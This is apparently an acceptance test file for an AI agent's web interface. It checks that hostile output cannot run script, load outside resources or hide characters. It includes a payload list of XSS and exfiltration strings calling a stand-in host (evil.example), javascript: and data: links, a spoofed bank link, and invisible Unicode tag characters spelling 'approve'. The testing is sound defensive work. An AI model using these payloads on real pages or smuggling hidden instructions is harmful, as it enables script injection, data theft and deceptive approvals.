"""Text that wants more than to be read, in the page: H2 and J4 of the catalogue of faults."""

from __future__ import annotations

import unicodedata
from pathlib import Path
from typing import Any

from playwright.async_api import Browser, Page, expect

from agent_core.tools.tool import Tier, Tool, ToolContext, tool
from agent_core.values import Change, Preview
from tests.acceptance.web.counter import USED, link_of, loop_of
from tests.support.http_api import house_of, serving
from tests.support.web import Visit, eventually, visit

CANARY = "evil.example/c4n4ry"
HOSTILE = [
    f"<script>window.owned = 1; fetch('https://{CANARY}')</script>",
    f'<img src="https://{CANARY}.png" onerror="window.owned = 1">',
    f'<svg onload="window.owned = 1"><image href="https://{CANARY}.svg"/></svg>',
    f"<svg><use href='https://{CANARY}#x'/></svg>",
    f"![price](https://{CANARY}.png)",
    f"![price][pic]\n\n[pic]: https://{CANARY}.png",
    f"[![nested](https://{CANARY}.png)](https://{CANARY})",
    f"<div style=\"background:url('https://{CANARY}.gif')\">x</div><style>@import 'https://{CANARY}.css';</style>",
    f'<meta http-equiv="refresh" content="0;url=https://{CANARY}">',
    f'<iframe src="https://{CANARY}"></iframe><object data="https://{CANARY}"></object><embed src="https://{CANARY}">',
    f'<link rel="stylesheet" href="https://{CANARY}.css"><link rel="prefetch" href="https://{CANARY}">',
    f'<form action="https://{CANARY}"><button>批准</button></form><base href="https://{CANARY}/">',
    "[click](javascript:window.owned=1) [click](JaVaScRiPt&colon;window.owned=1) [click](  javascript:window.owned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+) [click](vbscript:owned) [click](//evil.example)",
    f"[https://bank.example](https://{CANARY}) and [bank](https://bank.example@{CANARY}) <https://{CANARY}>",
    f'```html\n<script src="https://{CANARY}"></script>\n```',
    f"| a |\n|---|\n| <img src=x onerror=window.owned=1> https://{CANARY} |",
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} &lt;script&gt;window.owned=1&lt;/script&gt;",
]
UNSEEN = {
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "approve"),
    "bidi": "a\u202egnp.exe\u202c b\u2066c\u2069 \u200fd",
    "zero width": "PA4\u200b-70\u2060 \u180e",
    "soft hyphen": "SO\u00ad-123",
    "variation selectors": "5\U000e0100\U000e0130\ufe01",
    "controls": "\x1b[2J\x07\x00\x9b31m",
    "filler": "\u3164\u115f",
}
FAMILY = "👨\u200d👩\u200d👧 می\u200cخواهم ❤\ufe0f"


def hostile_tools(text: str) -> list[Tool]:
    """A tool whose result, progress, preview and error are ``text``."""

    @tool
    async def look(what: str, ctx: ToolContext) -> dict[str, Any]:
        """Looks something up."""
        return {"name": text, "rows": [{"remark": text, "url": f"https://{CANARY}"}], text: 1}

    async def shown(note: str) -> Preview:
        changes = (Change("note", text, text, record=text), Change(text, None, "x"))
        return Preview(text, changes=changes, notes=(text,), asked_by=text)

    @tool(tier=Tier.DANGEROUS, preview=shown, target=lambda note: note)
    async def change(note: str) -> str:
        """Changes something."""
        return note

    return [look, change]


def turns(text: str) -> list[Any]:
    return [
        [("look", {"what": text}), USED],
        [text, ("change", {"note": text}), USED],
        [text, USED],
    ]


async def _everywhere(seen: Visit, text: str) -> None:
    """Asks with the text, and opens every place that shows it."""
    page = seen.page
    await seen.said(text)
    await page.locator(".card.approval").wait_for()
    await page.locator(".call-line").first.click()
    for switch in await page.locator(".result-switch button").all():
        await switch.click()
    for summary in await page.locator("summary").all():
        await summary.click()
    await page.get_by_role("button", name="时间线").click()
    await page.get_by_role("tab", name="事件").click()
    await expect(page.locator(".event-line")).not_to_have_count(0)
    for place in range(await page.locator(".event-line").count()):
        await page.locator(".event-line").nth(place).click()
    await page.get_by_role("button", name="关闭").click()
    await page.get_by_role("link", name="待批").click()
    await page.locator(".inbox-item").wait_for()
    await page.go_back()
    await page.locator(".composer").wait_for()
    await page.locator(".card.approval").wait_for()
    folded = page.locator(".card").get_by_role("button", name="全部显示")
    while await folded.count():
        await folded.first.click()
    await page.get_by_role("button", name="拒绝", exact=True).click()
    await page.locator(".field textarea").fill(text[:4000])
    await page.get_by_role("button", name="拒绝并说明").click()
    await seen.ended()
    await seen.replayed()
    await page.get_by_role("slider").press("End")
    await page.locator(".answer").wait_for()


async def test_h2_nothing_of_an_answer_or_of_data_loads_runs_or_hides_where_it_leads(
    browser: Browser, built_page: Path, tmp_path: Path
) -> None:
    text = "\n\n".join(HOSTILE)
    async with (
        serving(house_of(loop_of(turns(text), hostile_tools(text)))) as api,
        visit(browser, link_of(api), tmp_path) as seen,
    ):
        page = seen.page
        await _everywhere(seen, text)
        # A long text is drawn over several frames; this stands in its last block.
        await expect(page.locator(".answer .markdown")).to_contain_text("constructor.constructor(")
        assert await page.evaluate("window.owned") is None
        assert seen.elsewhere() == []
        made = await page.evaluate(
            "[...document.querySelectorAll('.answer .markdown *:not(.figure)')].map(each => each.tagName.toLowerCase())"
        )
        assert set(made) <= {"p", "a", "span", "bdi", "pre", "code", "div", "table", "tbody", "tr", "th", "td", "br"}
        links = await page.evaluate(
            """[...document.querySelectorAll('.answer .markdown a')].map(each =>
                [each.href, each.rel, each.textContent + (each.nextElementSibling?.textContent ?? '')])"""
        )
        assert links
        for address, rel, told in links:
            assert address.startswith(("https://", "http://"))
            assert "evil.example" in told, told
            assert set(rel.split()) >= {"noopener", "noreferrer"}
        await seen.picture("hostile")
        answer = await page.request.get(page.url)
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy


async def test_j4_what_people_cannot_see_becomes_a_mark_with_its_code_point(
    browser: Browser, built_page: Path, tmp_path: Path
) -> None:
    text = " ".join(["价格", *UNSEEN.values(), "元"])
    async with (
        serving(house_of(loop_of(turns(text), hostile_tools(text)))) as api,
        visit(browser, link_of(api), tmp_path) as seen,
    ):
        page = seen.page
        # A server takes no control characters as a message; models and data may hold them.
        await _everywhere(seen, text.replace(UNSEEN["controls"], ""))
        await _all_seen(page)
        await page.get_by_role("button", name="回到对话").click()
        await page.locator(".answer").wait_for()
        await _all_seen(page)
        said = await page.locator(".answer .markdown").inner_text()
        for kind, characters in UNSEEN.items():
            for character in filter(_hides, characters.replace("\0", "")):
                assert f"U+{ord(character):04X}" in said, kind
        await expect(page.locator(".session-title")).to_contain_text("U+E0061")
        await expect(page.locator(".top-title")).to_contain_text("U+E0061")
        await page.locator(".scroll").evaluate("element => element.scrollTop = 0")
        await seen.picture("unseen")


async def test_j4_joiners_stay_where_emoji_and_scripts_need_them(
    browser: Browser, built_page: Path, tmp_path: Path
) -> None:
    async with (
        serving(house_of(loop_of([[FAMILY, USED]], []))) as api,
        visit(browser, link_of(api), tmp_path) as seen,
    ):
        await seen.said(FAMILY)
        await seen.ended()
        assert await seen.page.locator(".answer .markdown").inner_text() == FAMILY
        assert await seen.page.locator(".bubble").inner_text() == FAMILY
        await expect(seen.page.locator(".hidden-mark")).to_have_count(0)


def _hides(character: str) -> bool:
    return unicodedata.category(character) in ("Cf", "Cc", "Cn", "Mn") or character in "\u3164\u115f"


async def _all_seen(page: Page) -> None:
    """Waits until the page hides nothing: what has just arrived is marked when it is drawn."""
    await eventually(lambda: _unseen(page), lambda hidden: not hidden)


async def _unseen(page: Page) -> list[str]:
    """Characters of the page's text and titles that nobody can see."""
    text: str = await page.evaluate("document.body.innerText + document.title")
    titles: str = await page.evaluate(
        "[...document.querySelectorAll('[title],[aria-label]')].map(e => e.title + e.ariaLabel).join('\\n')"
    )
    return [f"U+{ord(each):04X}" for each in text + titles if _hides(each) and each not in "\n\t"]
